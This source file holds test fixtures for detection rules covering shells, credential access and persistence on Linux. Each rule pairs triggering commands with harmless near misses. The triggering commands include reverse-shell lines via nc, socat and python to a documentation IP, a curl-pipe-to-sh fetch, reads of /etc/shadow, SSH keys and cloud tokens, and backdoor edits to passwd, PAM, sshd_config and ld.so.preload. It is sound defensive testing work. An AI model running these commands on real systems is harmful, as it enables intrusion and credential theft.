// Deeds for the rules on shells, credentials and persistence (src/policy/defaults).

import type { RuleDeed } from "./rule-deed.ts";

export const shellDeeds: readonly RuleDeed[] = [
  {
    rule: "Shell on a network connection",
    does: 'play helper "on 203.0.113.7 4444 012 /bin/sh -i"',
    times: 2,
    near: 'play helper "on 203.0.113.7 4444 3 /bin/sh -c true"',
  },
  {
    rule: "Shell opens a connection itself",
    does: 'play bash "connect 203.0.113.7 4444 hello"',
    near: `
play bash "connect 127.0.0.1 4444 hello"
play bash "connect-udp 203.0.113.7 53"`,
  },
  {
    rule: "Web server starts a shell",
    does: [
      'play nginx "run /bin/sh -c true"',
      'play php-fpm8.2 "run /bin/sh -i"',
      'play apache2 "run /bin/sh"',
    ],
    near: 'play nginx "run /bin/sh /deeds/prelude.sh"; play nginx "run /bin/sh -c /usr/sbin/sendmail"',
  },
  {
    rule: "Database starts a shell",
    does: 'play mariadbd "run /bin/sh -c true"',
    near: 'play mariadbd "run /bin/true"; play mariadb "run /bin/sh -c true"',
  },
  {
    rule: "Shell at a terminal in a container",
    does: ['play -t helper "run /bin/sh -c true"', 'play -t helper "run /deeds/bin/busybox sh"'],
    near: `
play helper "run /bin/sh -c true"; play -t sh "run /bin/sh -c true"
play -t helper "run /deeds/bin/busybox vi /etc/hosts"`,
    where: "container",
  },
  {
    rule: "Netcat gives a program to the network",
    does: [
      'play ncat "" --listen 4444 --exec /bin/sh',
      'play nc "" -e /bin/sh 203.0.113.7 4444',
      'play socat "" TCP:203.0.113.7:4444 EXEC:/bin/sh',
    ],
    near: `
play ncat "" -z 203.0.113.7 4444; play socat "" - TCP:203.0.113.7:4444
play ls "" -e /bin/sh
play vim.basic "" exec:notes`,
  },
  {
    rule: "One-line script with a socket and a shell",
    does: 'play python3.13 "" -c "import socket,os,pty;s=socket.socket();pty.spawn(\'/bin/sh\')"',
    near: `
play python3.13 "" -c "import socket;print(socket.gethostname())"; play perl "" -e "exec(1)"
play cat "" -c "import socket; dup2"
play python3.13 "" /srv/socket-dup2.py`,
  },
  {
    rule: "Shell runs what it fetches",
    does: "play bash '' -c 'curl -s http://203.0.113.7/x | sh'",
    near: `
play bash '' -c 'curl -s http://203.0.113.7/x > /tmp/page'; play bash '' -c 'ls | sh'
play xargs '' -c 'curl x | sh'
play bash '' /srv/script 'curl x | sh'`,
  },
];

export const credentialDeeds: readonly RuleDeed[] = [
  {
    rule: "Password hashes read",
    does: "cat /etc/shadow > /dev/null",
    near: `
cat /etc/passwd > /dev/null; play unix_chkpwd "read /etc/shadow"
play run-parts "run /bin/cp /etc/shadow /srv/shadow"
play crond "run /bin/true"`,
  },
  {
    rule: "Private SSH key read",
    does: ["cat /root/.ssh/id_ed25519 > /dev/null", "cat /etc/ssh/ssh_host_deed_key > /dev/null"],
    near: `
cat /root/.ssh/id_ed25519.pub > /dev/null; play ssh "read /root/.ssh/id_ed25519"
play restic "read /root/.ssh/id_ed25519"
play helper "append /root/.ssh/id_ed25519"`,
  },
  {
    rule: "Cloud or cluster credentials copied",
    does: [
      "base64 /root/.aws/credentials > /dev/null",
      "cat /run/secrets/kubernetes.io/serviceaccount/token",
      "cat /etc/kubernetes/admin.conf",
    ],
    near: `
play aws "read /root/.aws/credentials"; grep -r text /root/.aws > /dev/null
play viewer "read /root/.aws/credentials" /root/.aws/credentials
play install "append /root/.aws/credentials" /root/.aws/credentials`,
  },
  {
    rule: "Search for keys and credentials",
    does: ["find /srv -name id_rsa", 'grep -r "BEGIN OPENSSH" /srv || true'],
    near: `
find /srv -name README; grep -r PRIVATE /srv || true
play cat "" "PRIVATE KEY"`,
  },
  {
    rule: "Memory of a process opened to be written",
    does: 'play helper "open-to-write /proc/self/mem"',
    near: 'play gdb "open-to-write /proc/self/mem"; play helper "open-to-write /proc/self/comm"',
  },
];

export const persistenceDeeds: readonly RuleDeed[] = [
  {
    rule: "Scheduled job changed",
    does: [
      "echo '* * * * * root true' > /etc/cron.d/job",
      "cp /root/jobs /srv/job; mv /srv/job /etc/cron.d/moved",
    ],
    near: `
play crontab "write /var/spool/cron/crontabs/root" -l; cat /etc/crontab > /dev/null
cp /root/jobs /srv/job; mv /srv/job /srv/moved`,
  },
  {
    rule: "Crontab replaced as a whole",
    does: 'play crontab "" /root/jobs',
    near: `
play crontab "" -l; play crontab "" -u root -e
play crontab ""`,
  },
  {
    rule: "Unit of systemd changed",
    does: [
      "cp /root/jobs /etc/systemd/system/job.service",
      "cp /root/jobs /srv/unit; mv /srv/unit /etc/systemd/system/moved.timer",
      "echo > /home/deed/.config/systemd/user/own.service",
      "cp /root/jobs /srv/unit; mv /srv/unit /home/deed/.config/systemd/user/moved.service",
    ],
    near: `
play systemctl "write /etc/systemd/system/other.service"; cp /root/jobs /etc/systemd/system/notes
cat /etc/systemd/system/own.service
cp /root/jobs /srv/unit; mv /srv/unit /etc/systemd/system/notes
mv /etc/systemd/system/notes /srv/notes.service`,
  },
  {
    rule: "SSH keys that may log in changed",
    does: [
      "echo key >> /root/.ssh/authorized_keys",
      "cp /root/jobs /srv/keys; mv /srv/keys /root/.ssh/authorized_keys",
    ],
    near: "echo host >> /root/.ssh/known_hosts; cat /root/.ssh/authorized_keys > /dev/null",
  },
  {
    rule: "Settings of the SSH server changed",
    does: [
      "echo PermitRootLogin yes >> /etc/ssh/sshd_config",
      "cp /root/jobs /srv/sshd; mv /srv/sshd /etc/ssh/sshd_config",
      'play vim.basic "write /etc/ssh/sshd_config"',
      'play -t helper "write /etc/ssh/sshd_config"',
    ],
    near: `
play -t vim.basic "write /etc/ssh/sshd_config"; echo Host x >> /etc/ssh/ssh_config
cat /etc/ssh/sshd_config`,
  },
  {
    rule: "Library for every program changed",
    does: [
      'play helper "write /etc/ld.so.preload.new"; mv /etc/ld.so.preload.new /etc/ld.so.preload; rm /etc/ld.so.preload',
      ": > /etc/ld.so.preload; rm /etc/ld.so.preload",
    ],
    near: "echo /opt/lib > /etc/ld.so.conf.d/opt.conf",
  },
  {
    rule: "Start-up file of shells changed",
    does: [
      "echo true >> /root/.bashrc",
      "cp /root/jobs /srv/rc; mv /srv/rc /etc/profile.d/moved.sh",
      "cp /root/jobs /srv/rc; mv /srv/rc /root/.zshrc",
      'play nano "write /root/.bashrc"',
      'play -t helper "write /root/.bashrc"',
    ],
    near: `
play -t nano "write /root/.bashrc"; play useradd "write /root/.profile"; cat /root/.bashrc
play perl "write /home/deed/.profile" /usr/sbin/adduser worker`,
  },
  {
    rule: "List of accounts changed by hand",
    does: [
      "echo guest:x:0:0::/:/bin/sh >> /etc/passwd",
      "cp /etc/group /srv/group; mv /srv/group /etc/group",
    ],
    near: 'play useradd "write /etc/passwd"; cat /etc/passwd > /dev/null',
  },
  {
    rule: "Authentication modules changed",
    does: [
      "echo auth sufficient pam_permit.so >> /etc/pam.d/common-auth",
      "cp /root/jobs /usr/lib/x86_64-linux-gnu/security/pam_deed.so",
      "cp /root/jobs /srv/pam; mv /srv/pam /etc/pam.d/deed",
      "cp /root/jobs /srv/pam; mv /srv/pam /usr/lib/security/pam_moved.so",
    ],
    near: `
play perl "write /etc/pam.d/common-auth" /usr/sbin/pam-auth-update; cat /etc/pam.d/login
play -t vim.tiny "write /etc/pam.d/login"`,
  },
  {
    rule: "Rule for devices changed",
    does: [
      "cp /root/jobs /etc/udev/rules.d/99-job.rules",
      "cp /root/jobs /srv/rules; mv /srv/rules /etc/udev/rules.d/98-moved.rules",
    ],
    near: `
play dpkg "write /etc/udev/rules.d/99-other.rules"
play -t nano "write /etc/udev/rules.d/97-own.rules"
play snapd "write /etc/udev/rules.d/96-own.rules"
cat /etc/udev/rules.d/own.rules`,
  },
  {
    rule: "Trusted certificate added",
    does: [
      "cp /root/jobs /usr/local/share/ca-certificates/own.crt",
      "cp /root/jobs /srv/own.crt; mv /srv/own.crt /usr/local/share/ca-certificates/moved.crt",
    ],
    near: 'play sh "run /bin/cp /root/jobs /etc/ssl/certs/own.pem" /usr/sbin/update-ca-certificates',
  },
];
